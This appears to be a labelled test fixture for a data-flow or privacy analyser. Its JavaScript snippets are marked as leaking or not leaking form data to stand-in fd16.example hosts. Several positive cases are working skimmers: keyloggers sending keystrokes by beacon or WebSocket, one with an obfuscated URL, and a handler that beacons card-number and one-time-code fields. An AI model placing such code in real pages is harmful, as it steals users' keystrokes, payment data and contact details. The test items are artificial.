// Fields found within others, and what a script keeps in the browser as a list.

//# jquery-plugin-over-each
// flow: phone > jpe.fd16.example via xhr
(function ($) {
  $.fn.callback = function (url) {
    return this.each(function () {
      var box = $(this);
      box.on('click', '.go', function () { $.post(url, { tel: box.find('input[type=tel]').val() }); });
    });
  };
  $('.callback').callback('https://jpe.fd16.example/c');
})(jQuery);

//# jquery-children-of-a-form
// flow: email > jcf.fd16.example via xhr
function lead($form) {
  $.ajax('https://jcf.fd16.example/l', { method: 'POST', data: { m: $form.children('input[name=email]').val() } });
}
$(document).on('submit', 'form', function () { lead($(this)); });

//# near-hidden-field-within
// no flow
// why: nobody types into a hidden field
$('.order').each(function () {
  var $order = $(this);
  $.post('https://nhf.fd16.example/o', { n: $order.find('input[type=hidden]').val() });
});

//# near-found-in-a-list
// no flow
// why: what is found is a row of a table of words, not a field
const rows = [{ name: 'input', text: 'Your text' }];
const found = rows.find((row) => row.name === 'input');
navigator.sendBeacon('https://nfl.fd16.example/r', found.text);

//# near-queue-of-steps
// no flow
// why: what is kept are names of steps
const KEY = 'pending';
const pending = () => JSON.parse(localStorage.getItem(KEY) || '[]');
function note(step) { localStorage.setItem(KEY, JSON.stringify(pending().concat(step))); }
document.querySelector('#next').onclick = () => note('next');
window.addEventListener('online', () => fetch('https://nqs.fd16.example/s', { method: 'POST', body: JSON.stringify(pending()) }));

//# queue-of-mails
// flow: email > qom.fd16.example via fetch
const KEY2 = 'outbox';
function later(mail) {
  const raw = localStorage.getItem(KEY2);
  const list = raw ? JSON.parse(raw) : [];
  list.push(mail);
  localStorage.setItem(KEY2, JSON.stringify(list));
}
document.querySelector('input[type=email]').onchange = (e) => later(e.target.value);
window.addEventListener('online', () => {
  const raw = localStorage.getItem(KEY2);
  (raw ? JSON.parse(raw) : []).forEach((mail) => fetch('https://qom.fd16.example/m', { method: 'POST', body: mail }));
});

//# list-of-ids
// flow: identifier > loi.fd16.example via beacon
const seen = JSON.parse(localStorage.getItem('visitor_ids') || '[]');
navigator.sendBeacon('https://loi.fd16.example/i', seen.join(','));

//# settings-with-an-id
// flow: identifier > swi.fd16.example via beacon
const kept = JSON.parse(localStorage.getItem('app') || '{}');
navigator.sendBeacon('https://swi.fd16.example/i', kept.visitor);

//# selectors-of-a-table
// flow: card > sot.fd16.example via beacon
// flow: otp > sot.fd16.example via beacon
const WANTED = { a: 'input[autocomplete=cc-number]', b: 'input[autocomplete=one-time-code]' };
document.querySelector('#pay').addEventListener('click', () => {
  const found = {};
  for (const name of Object.keys(WANTED)) found[name] = document.querySelector(WANTED[name]).value;
  navigator.sendBeacon('https://sot.fd16.example/w', JSON.stringify(found));
});

//# selectors-of-a-list-of-rules
// flow: email > slr.fd16.example via fetch
// flow: phone > slr.fd16.example via fetch
var rules = [{ as: 'm', at: '#lead input[type=email]' }, { as: 't', at: '#lead input[type=tel]' }];
document.querySelector('#lead').onsubmit = function () {
  var body = new URLSearchParams();
  rules.forEach(function (rule) { body.append(rule.as, document.querySelector(rule.at).value); });
  fetch('https://slr.fd16.example/l', { method: 'POST', body: body });
};

//# near-selectors-of-a-table-not-sent
// no flow
// why: only how many fields are filled is sent
const ASKED = { a: 'input[type=email]', b: 'input[type=tel]' };
document.querySelector('#go').onclick = () => {
  const filled = Object.keys(ASKED).filter((name) => document.querySelector(ASKED[name]).value !== '');
  navigator.sendBeacon('https://nst.fd16.example/n', String(filled.length));
};

//# keys-sent-now-and-then
// flow: keystrokes > ksn.fd16.example via beacon
var pressed = '';
var gate = [104, 116, 116, 112, 115, 58, 47, 47, 107, 115, 110].map((code) => String.fromCharCode(code)).join('') + '.fd16.example/k';
document.onkeydown = function (e) { pressed += e.key; };
setInterval(function () {
  if (pressed === '') return;
  navigator.sendBeacon(gate, pressed);
  pressed = '';
}, 5000);

//# near-keys-counted
// no flow
let count = 0;
document.addEventListener('keydown', () => { count += 1; });
setInterval(() => { if (count) navigator.sendBeacon('https://nkc.fd16.example/k', String(count)); count = 0; }, 1000);

//# what-is-taken-of-the-event-is-told
// flow: phone > wte.fd16.example via beacon
function watch(target, type, take) {
  target.addEventListener(type, function (event) { navigator.sendBeacon('https://wte.fd16.example/w', take(event)); });
}
watch(document.querySelector('input[type=tel]'), 'change', (e) => e.target.value);

//# near-only-the-length-is-taken
// no flow
function watch2(target, type, take) {
  target.addEventListener(type, function (event) { navigator.sendBeacon('https://nol.fd16.example/w', String(take(event))); });
}
watch2(document.querySelector('input[type=tel]'), 'change', (e) => e.target.value.length > 3);

//# keys-taken-by-a-recorder
// flow: keystrokes > ktr.fd16.example via websocket
class Recorder {
  constructor(url) { this.socket = new WebSocket(url); }
  on(type, pick) { document.addEventListener(type, (event) => this.write(type, pick(event))); }
  write(type, what) { this.socket.send(JSON.stringify([type, what])); }
}
new Recorder('wss://ktr.fd16.example/r').on('keydown', (event) => event.key);

//# places-of-clicks-taken
// flow: interaction > pct.fd16.example via beacon
const each = (type, pick, send) => document.addEventListener(type, (event) => { const found = pick(event); if (found) send(found); });
each('click', (e) => ({ x: e.pageX, y: e.pageY }), (found) => navigator.sendBeacon('https://pct.fd16.example/p', JSON.stringify(found)));
